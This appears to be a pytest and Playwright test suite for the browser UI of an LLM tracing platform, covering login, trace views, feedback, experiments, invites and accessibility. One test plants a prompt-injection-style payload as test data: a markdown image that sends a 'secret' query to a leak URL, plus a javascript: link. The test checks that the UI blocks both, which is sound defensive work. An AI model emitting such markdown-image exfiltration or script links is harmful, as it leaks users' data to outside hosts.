"""The web UI in a real browser (Debian's chromium, driven by Playwright) against the real stack.

A workspace is seeded through the public API with the official SDK (tests/support/ui_seed.py): nested
traces with chat LLM calls, errors, threads, feedback and an image attachment; a dataset with two
experiments; a hub prompt; a playground provider pointing at tests/support/model_server.py. A user of that
workspace logs in through the login page and works through the UI as a person would.

Every test saves a screenshot of what it saw under test-artifacts/ui/ (TRACEHOUSE_ARTIFACTS
overrides the directory), so a failure can be looked at, and so can a pass.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import datetime as dt
import json
import os
import re
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import make_tenant
from tests.support.ingest_helpers import wait_for
from tests.support.model_server import ModelServer
from tests.support.ui_seed import IMAGE_SIDE, QUESTIONS, seed
from tooling.runner.stack import REPO_ROOT, NativeStack

sync_api = pytest.importorskip("playwright.sync_api")

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic",
]  # fmt: skip
PASSWORD = "ui-test-password-1"
ARTIFACTS = Path(os.environ.get("TRACEHOUSE_ARTIFACTS", REPO_ROOT / "test-artifacts")) / "ui"


@pytest.fixture(scope="module")
def model_server() -> Iterator[ModelServer]:
    with ModelServer(token_delay=0.02) as server:
        yield server


@pytest.fixture(scope="module")
def seeded(stack: NativeStack, model_server: ModelServer) -> Iterator[dict[str, Any]]:
    tenant = make_tenant(stack)
    email = f"ui-{uuid.uuid4().hex[:8]}@example.com"
    created = tenant.client.post("/users", json={"email": email, "password": PASSWORD, "role": "admin"})
    assert created.status_code == 201, created.text
    info = seed(stack.url, tenant.key, model_server.url)
    info.update(email=email, tenant=tenant)
    yield info
    tenant.client.close()


def new_tenant(stack: NativeStack) -> Any:
    """make_tenant runs asyncio; Playwright's sync API keeps a loop running in this thread."""
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(make_tenant, stack).result()


@contextlib.contextmanager
def chromium() -> Iterator[Any]:
    """Debian's chromium, headless, for one test module (every UI module's `browser` fixture)."""
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def open_tab(
    browser: Any, stack: NativeStack, *, width: int = 1280, clipboard: bool = False
) -> tuple[Any, Any, list[str]]:
    """(context, tab, errors): a fresh context on the stack; page and console errors land in errors."""
    context = browser.new_context(viewport={"width": width, "height": 900}, base_url=stack.url)
    if clipboard:  # copy buttons write to the clipboard; tests read it back
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=stack.url)
    tab = context.new_page()
    errors: list[str] = []
    tab.on("pageerror", lambda exc: errors.append(f"page error: {exc}"))
    tab.on("console", lambda msg: errors.append(f"console: {msg.text}") if msg.type == "error" else None)
    return context, tab, errors


@contextlib.contextmanager
def logged_in_tab(
    browser: Any, stack: NativeStack, email: str, screenshot: str, *, width: int = 1280, clipboard: bool = False
) -> Iterator[Any]:
    """A tab logged in as `email`. At the end a screenshot is saved, and a script error or an
    unexpected console error fails the test."""
    context, tab, errors = open_tab(browser, stack, width=width, clipboard=clipboard)
    login(tab, email, PASSWORD)
    tab.errors = errors  # a Page has no slot for them; tests read them here
    yield tab
    shot(tab, screenshot)
    context.close()
    unexpected = [e for e in errors if not expected_console_error(e)]
    assert not unexpected, unexpected


def shot_both_widths(tab: Any, name: str) -> None:
    """`name`-1280 and `name`-1920 screenshots of the view as it is (then back to 1280 px)."""
    shot(tab, f"{name}-1280")
    tab.set_viewport_size({"width": 1920, "height": 1000})
    shot(tab, f"{name}-1920")
    tab.set_viewport_size({"width": 1280, "height": 900})


def axe_problems(tab: Any) -> list[str]:
    """axe-core's WCAG 2 A/AA rules on the page as it is: its serious and critical violations."""
    # Evaluated, not added as a <script> tag: the UI's CSP (rightly) refuses inline script.
    tab.evaluate(AXE.read_text())
    result = tab.evaluate("axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21aa']}})")
    return [
        f"{v['id']} ({v['impact']}): {v['help']} — {[n['target'] for n in v['nodes'][:3]]}"
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]


def expected_console_error(text: str) -> bool:
    # Failed requests the test provokes on purpose (a bad filter, a wrong password) are logged
    # by the browser as "Failed to load resource"; the page handles them.
    return "Failed to load resource" in text


@pytest.fixture(scope="module")
def browser(seeded: dict[str, Any]) -> Iterator[Any]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def page(browser: Any, stack: NativeStack, seeded: dict[str, Any], request: pytest.FixtureRequest) -> Iterator[Any]:
    """A logged-in tab (1280 px wide); console errors fail the test; a screenshot is saved at the end."""
    with logged_in_tab(browser, stack, seeded["email"], request.node.name) as tab:
        yield tab


def login(tab: Any, email: str, password: str) -> None:
    tab.goto("/")
    tab.wait_for_url(re.compile(r"/login"))
    tab.get_by_label("Email").fill(email)
    tab.get_by_label("Password").fill(password)
    tab.get_by_role("button", name="Log in").click()
    tab.wait_for_url(re.compile(r"/o/[0-9a-f-]+/projects$"))


def shot(tab: Any, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    tab.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def api(seeded: dict[str, Any]) -> httpx.Client:
    return seeded["tenant"].client


def expect(locator: Any) -> Any:
    return sync_api.expect(locator)


def runs_table_rows(tab: Any) -> Any:
    return tab.locator("main table tbody tr")


# --- the tests ---------------------------------------------------------------------------------


def test_login_rejects_a_wrong_password_then_lands_on_projects(browser: Any, stack: NativeStack, seeded: dict) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, base_url=stack.url)
    tab = context.new_page()
    tab.goto(f"/o/{seeded['workspace_id']}/projects")  # a deep link while logged out → login, then back
    tab.wait_for_url(re.compile(r"/login\?next="))
    tab.get_by_label("Email").fill(seeded["email"])
    tab.get_by_label("Password").fill("not-the-password")
    tab.get_by_role("button", name="Log in").click()
    expect(tab.get_by_role("alert")).to_contain_text("wrong email or password")
    shot(tab, "login_error")
    tab.get_by_label("Password").fill(PASSWORD)
    tab.get_by_role("button", name="Log in").click()
    tab.wait_for_url(f"**/o/{seeded['workspace_id']}/projects")
    row = tab.get_by_role("row").filter(has=tab.get_by_role("link", name="support-bot", exact=True))
    expect(row).to_contain_text(str(seeded["trace_count"]))  # the project's run count, from its stats
    shot(tab, "projects")
    # Log out: the session is gone server-side, so the app sends us back to the login page.
    tab.get_by_role("button", name="Log out").click()
    tab.wait_for_url(re.compile(r"/login"))
    tab.goto(f"/o/{seeded['workspace_id']}/projects")
    tab.wait_for_url(re.compile(r"/login"))
    context.close()


def test_open_a_project_and_filter_its_runs(page: Any, seeded: dict) -> None:
    page.get_by_role("link", name="support-bot", exact=True).click()
    rows = runs_table_rows(page)
    expect(rows).to_have_count(seeded["trace_count"])  # root runs only, one page
    # The query language: only the failed traces (8 of the seeded ones fail).
    errors = sum(1 for i in [*range(60), *range(100, 109)] if i % 9 == 4)
    page.get_by_label("Filter query").fill('eq(status, "error")')
    page.get_by_label("Filter query").press("Enter")
    expect(rows).to_have_count(errors)
    # Columns: the row's selection checkbox, name, type, status…
    for status in rows.locator("td:nth-child(4)").all_inner_texts():
        assert "error" in status
    # A clause a quick filter can show becomes a removable chip, and the state is in the URL.
    assert "status=error" in page.url
    expect(page.get_by_role("button", name=re.compile(r"Remove filter.*error", re.I))).to_be_visible()
    shot(page, "runs_filtered")
    # A quick filter composes with it: errors tagged canary.
    canary = sum(1 for i in [*range(60), *range(100, 109)] if i % 9 == 4 and i % 4 == 0)
    page.get_by_label("Tag", exact=True).fill("canary")
    page.get_by_label("Tag", exact=True).press("Enter")
    expect(rows).to_have_count(canary)
    # Invalid input is a clear message, not an empty table: a syntax error is caught before any
    # request (the rows stay), a field the server does not know comes back as its 400 message.
    page.get_by_label("Filter query").fill("eq(status,")
    page.get_by_label("Filter query").press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("unexpected end of filter")
    expect(rows).to_have_count(canary)
    page.get_by_label("Filter query").fill("eq(colour, 1)")
    page.get_by_label("Filter query").press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("unknown field 'colour' (at character 4)")
    shot(page, "runs_invalid_filter")


def test_open_a_trace_from_the_sdk_url_navigate_and_add_feedback(page: Any, seeded: dict) -> None:
    # Exactly the URL the SDK prints for a run.
    page.goto(f"/o/{seeded['workspace_id']}/projects/p/{seeded['project_id']}/r/{seeded['ok_root_id']}?poll=true")
    tree = page.get_by_role("tree")
    expect(tree.get_by_role("treeitem")).to_have_count(4)
    # The trace's tokens are its LLM call's, counted once (the API already rolls a root's up).
    body = {"trace": seeded["ok_trace_id"], "select": ["total_tokens"], "filter": 'eq(run_type, "llm")'}
    llm_tokens = sum(r["total_tokens"] for r in api(seeded).post("/runs/query", json=body).json()["runs"])
    assert llm_tokens > 0
    expect(page.locator(".trace-summary")).to_contain_text(f"Tokens {llm_tokens}")
    for name in ("support_agent", "search_docs", "ChatOpenAI", "create_ticket"):
        expect(tree).to_contain_text(name)
    # Keyboard: Down twice selects the LLM call; its chat messages render as a conversation.
    tree.get_by_role("treeitem", selected=True).focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    expect(tree.get_by_role("treeitem", selected=True)).to_contain_text("ChatOpenAI")
    llm_id = page.url.split("/r/")[1].split("?")[0]
    assert llm_id != seeded["ok_root_id"]  # the selection is in the URL
    expect(page.get_by_text("You are a helpful support agent.")).to_be_visible()
    expect(page.locator("strong", has_text="one")).to_be_visible()  # markdown, not asterisks
    shot(page, "trace_llm")
    # Feedback on the selected run, through the form.
    page.get_by_role("tab", name="Feedback").click()
    form = page.get_by_role("form", name="Add feedback")
    form.get_by_label("Key").fill("ui-check")
    form.get_by_label("Score").fill("0.75")
    form.get_by_label("Comment (optional)").fill("added in the browser")
    form.get_by_role("button", name="Add feedback").click()
    expect(page.get_by_text("added in the browser")).to_be_visible()
    stored = wait_for(
        lambda: api(seeded).get("/feedback", params={"run": llm_id, "key": "ui-check"}).json(), what="feedback"
    )
    assert [(f["key"], f["score"], f["comment"]) for f in stored] == [("ui-check", 0.75, "added in the browser")]
    shot(page, "trace_feedback")


def test_trace_with_an_error_and_an_image_attachment(page: Any, seeded: dict) -> None:
    base = f"/o/{seeded['workspace_id']}/projects/p/{seeded['project_id']}/r"
    page.goto(f"{base}/{seeded['error_root_id']}")
    expect(page.get_by_text("RateLimitError: upstream returned 429").first).to_be_visible()
    shot(page, "trace_error")
    page.goto(f"{base}/{seeded['image_run_id']}")
    image = page.locator("main img")
    expect(image).to_have_count(1)
    # The PNG really loaded (decode() waits for it and fails if it cannot). Not wait_for_function:
    # it compiles its string with eval, which the UI's CSP rightly refuses.
    assert image.evaluate("img => img.decode().then(() => img.naturalWidth)") == IMAGE_SIDE
    shot(page, "trace_image")


def test_untrusted_markdown_loads_no_remote_image_and_shows_raw_html(page: Any, seeded: dict) -> None:
    """Prompt-injected output: a markdown image would carry data to its host by merely loading.
    The leak URL is another origin (port 9) on loopback, so even a regression sends nothing out."""
    leak = "http://127.0.0.1:9/leak.png?q=secret"
    content = f"<div>hello</div>\nworld\n\n![chart]({leak})\n\n[click me](javascript:alert(1))"
    run_id = str(uuid.uuid4())
    run = {
        "id": run_id,
        "name": "injected",
        "run_type": "llm",
        "inputs": {"messages": [{"role": "user", "content": content}]},
        "start_time": dt.datetime.now(dt.UTC).isoformat(),
        "session_name": f"md-{uuid.uuid4().hex[:6]}",
    }
    assert api(seeded).post("/runs", json=run).status_code == 202
    stored = wait_for(lambda: (r := api(seeded).get(f"/runs/{run_id}")).status_code == 200 and r.json(), what="run")
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(f"/o/{seeded['workspace_id']}/projects/p/{stored['session_id']}/r/{run_id}")
    expect(page.get_by_text("remote image blocked: 127.0.0.1:9")).to_be_visible()
    expect(page.get_by_text("<div>hello</div>")).to_be_visible()  # raw HTML shown as text, not dropped
    expect(page.locator('img[src*="leak.png"]')).to_have_count(0)
    expect(page.locator('a[href^="javascript:"]')).to_have_count(0)
    expect(page.get_by_text("click me")).to_be_visible()
    shot(page, "untrusted_markdown")
    assert not [url for url in requested if "leak.png" in url]


def test_compare_two_experiments_from_the_sdk_url(page: Any, seeded: dict) -> None:
    baseline, candidate = seeded["experiments"]
    page.goto(
        f"/o/{seeded['workspace_id']}/datasets/{seeded['dataset_id']}/compare?selectedSessions={baseline},{candidate}"
    )
    for name in seeded["experiment_names"]:
        expect(page.get_by_text(name).first).to_be_visible()
    # The candidate answers "I am not sure." where len(question) % 3 == 0: a correctness regression each.
    expected = sum(1 for question, _ in QUESTIONS if len(question) % 3 == 0)
    regressions = page.get_by_role("button", name=re.compile(r"candidate.*\(regression\)"))
    expect(regressions).to_have_count(expected)
    shot(page, "compare")
    regressions.first.click()
    expect(page.get_by_text("I am not sure.").first).to_be_visible()
    shot(page, "compare_detail")


def test_stream_a_playground_answer(page: Any, seeded: dict, model_server: ModelServer) -> None:
    page.goto(f"/o/{seeded['workspace_id']}/playground")
    page.get_by_label("Provider").select_option(label="local-echo")
    page.get_by_label("Model", exact=True).fill("echo-small")
    page.get_by_label("Content of message 2 (User)").fill("tell me about streaming tokens")
    page.get_by_role("button", name="Run", exact=True).click()
    answer = page.get_by_label("Model answer")
    expect(answer).to_contain_text("echo: tell me about streaming tokens")
    expect(page.get_by_role("link", name="Open the traced run")).to_be_visible(timeout=30_000)
    shot(page, "playground")
    # The answer came from the model server, as a stream, and was traced.
    assert any("tell me about streaming tokens" in json.dumps(r) for r in model_server.requests)


@pytest.mark.parametrize(
    "view",
    [
        "threads",
        "monitoring",
        "datasets",
        "dataset",
        "versions",
        "prompts",
        "prompt",
        "settings",
        "members",
        "providers",
    ],
)
def test_every_page_renders(page: Any, seeded: dict, view: str) -> None:
    ws, project, dataset = seeded["workspace_id"], seeded["project_id"], seeded["dataset_id"]
    paths = {
        "threads": (f"/o/{ws}/projects/p/{project}/threads", "thread-0"),
        "monitoring": (f"/o/{ws}/projects/p/{project}/monitoring", "Error rate"),
        "datasets": (f"/o/{ws}/datasets", "qa-golden"),
        "dataset": (f"/o/{ws}/datasets/{dataset}", "How do I reset my password?"),
        "versions": (f"/o/{ws}/datasets/{dataset}/versions", "added"),
        "prompts": (f"/o/{ws}/prompts", "support-answer"),
        "prompt": (f"/o/{ws}/prompts/-/support-answer", "concise support agent"),
        "settings": (f"/o/{ws}/settings", "th_" + seeded["api_key"].split("_")[1]),  # the key's short form
        "members": (f"/o/{ws}/settings/members", seeded["email"]),
        "providers": (f"/o/{ws}/settings/providers", "local-echo"),
    }
    path, text = paths[view]
    page.goto(path)
    expect(page.get_by_text(text).first).to_be_visible()
    expect(page.get_by_role("status").filter(has_text="Loading")).to_have_count(0)
    shot(page, f"page_{view}")


def test_another_workspace_sees_none_of_it(browser: Any, stack: NativeStack, seeded: dict) -> None:
    """A member of another workspace, handed a link into this one, gets an error, not the data."""
    other = new_tenant(stack)
    email = f"other-{uuid.uuid4().hex[:8]}@example.com"
    assert other.client.post("/users", json={"email": email, "password": PASSWORD}).status_code == 201
    context = browser.new_context(viewport={"width": 1280, "height": 900}, base_url=stack.url)
    tab = context.new_page()
    login(tab, email, PASSWORD)
    expect(tab.get_by_text("support-bot")).to_have_count(0)
    tab.goto(f"/o/{seeded['workspace_id']}/projects/p/{seeded['project_id']}/r/{seeded['ok_root_id']}")
    expect(tab.get_by_text("not a member of this workspace")).to_be_visible()
    expect(tab.get_by_text("support_agent")).to_have_count(0)
    shot(tab, "other_workspace")
    context.close()
    other.client.close()


def test_an_invited_person_joins_through_the_invite_page(browser: Any, stack: NativeStack, seeded: dict) -> None:
    email = f"invited-{uuid.uuid4().hex[:8]}@example.com"
    invite = api(seeded).post("/invites", json={"email": email, "role": "viewer"}).json()
    context = browser.new_context(viewport={"width": 1280, "height": 900}, base_url=stack.url)
    tab = context.new_page()
    tab.goto(invite["invite_url"].removeprefix(stack.url))
    tab.get_by_label("Your name").fill("Ivy Invited")
    tab.get_by_label("Password", exact=True).fill(PASSWORD)
    tab.get_by_label("Repeat password").fill(PASSWORD + "x")
    tab.get_by_role("button", name="Join the workspace").click()
    expect(tab.get_by_role("alert")).to_contain_text("differ")
    tab.get_by_label("Repeat password").fill(PASSWORD)
    tab.get_by_role("button", name="Join the workspace").click()
    expect(tab.get_by_role("status")).to_contain_text(f"{email} joined the workspace as viewer")
    shot(tab, "invite_joined")
    tab.get_by_role("link", name="Log in").click()
    login(tab, email, PASSWORD)
    expect(tab.get_by_role("link", name="support-bot", exact=True)).to_be_visible()  # the inviting workspace
    context.close()


def test_an_invited_person_with_an_account_logs_in_to_accept(browser: Any, stack: NativeStack, seeded: dict) -> None:
    """An address that already has an account is told to log in; it joins from its own session,
    and the password typed on the new-account form is not applied to it."""
    other = new_tenant(stack)
    email = f"existing-{uuid.uuid4().hex[:8]}@example.com"
    assert other.client.post("/users", json={"email": email, "password": PASSWORD}).status_code == 201
    other.client.close()
    invite = api(seeded).post("/invites", json={"email": email, "role": "viewer"}).json()
    context = browser.new_context(viewport={"width": 1280, "height": 900}, base_url=stack.url)
    tab = context.new_page()
    tab.goto(invite["invite_url"].removeprefix(stack.url))
    tab.get_by_label("Password", exact=True).fill(PASSWORD + "-new")
    tab.get_by_label("Repeat password").fill(PASSWORD + "-new")
    tab.get_by_role("button", name="Join the workspace").click()
    expect(tab.get_by_role("alert")).to_contain_text("already has an account")
    tab.get_by_label("Email").fill(email)
    tab.get_by_label("Password", exact=True).fill(PASSWORD)
    tab.get_by_role("button", name="Log in and join").click()
    expect(tab.get_by_role("status")).to_contain_text(f"{email} joined the workspace as viewer")
    shot(tab, "invite_existing_joined")
    context.close()
    with httpx.Client(base_url=f"{stack.url}/api/v1") as check:
        assert check.post("/auth/login", json={"email": email, "password": PASSWORD + "-new"}).status_code == 401


AXE = REPO_ROOT / "nginx" / "ui" / "node_modules" / "axe-core" / "axe.min.js"


@pytest.mark.parametrize(
    "view",
    [
        "projects", "runs", "trace", "threads", "monitoring", "datasets", "dataset", "compare", "prompts", "prompt",
        "playground", "settings", "members", "providers", "workspace",
    ],
)  # fmt: skip
def test_pages_pass_axe_accessibility_checks(page: Any, seeded: dict, view: str) -> None:
    """axe-core's WCAG 2 A/AA rules (labels, names, roles, contrast…): no serious or critical violation."""
    ws, project, dataset = seeded["workspace_id"], seeded["project_id"], seeded["dataset_id"]
    paths = {
        "projects": (f"/o/{ws}/projects", "support-bot"),
        "runs": (f"/o/{ws}/projects/p/{project}", "support_agent"),
        "trace": (f"/o/{ws}/projects/p/{project}/r/{seeded['ok_root_id']}", "search_docs"),
        "threads": (f"/o/{ws}/projects/p/{project}/threads/thread-1", "Turn 1"),
        "monitoring": (f"/o/{ws}/projects/p/{project}/monitoring", "Error rate"),
        "datasets": (f"/o/{ws}/datasets", "qa-golden"),
        "dataset": (f"/o/{ws}/datasets/{dataset}", "How do I reset my password?"),
        "compare": (
            f"/o/{ws}/datasets/{dataset}/compare?selectedSessions={','.join(seeded['experiments'])}",
            "regression",
        ),
        "prompts": (f"/o/{ws}/prompts", "support-answer"),
        "prompt": (f"/o/{ws}/prompts/-/support-answer", "concise support agent"),
        "playground": (f"/o/{ws}/playground", "Model settings"),
        "settings": (f"/o/{ws}/settings", "API keys"),
        "members": (f"/o/{ws}/settings/members", seeded["email"]),
        "providers": (f"/o/{ws}/settings/providers", "local-echo"),
        "workspace": (f"/o/{ws}/settings/workspace", ws),
    }
    path, text = paths[view]
    page.goto(path)
    expect(page.get_by_text(text).first).to_be_visible()
    problems = axe_problems(page)
    assert not problems, "\n".join(problems)
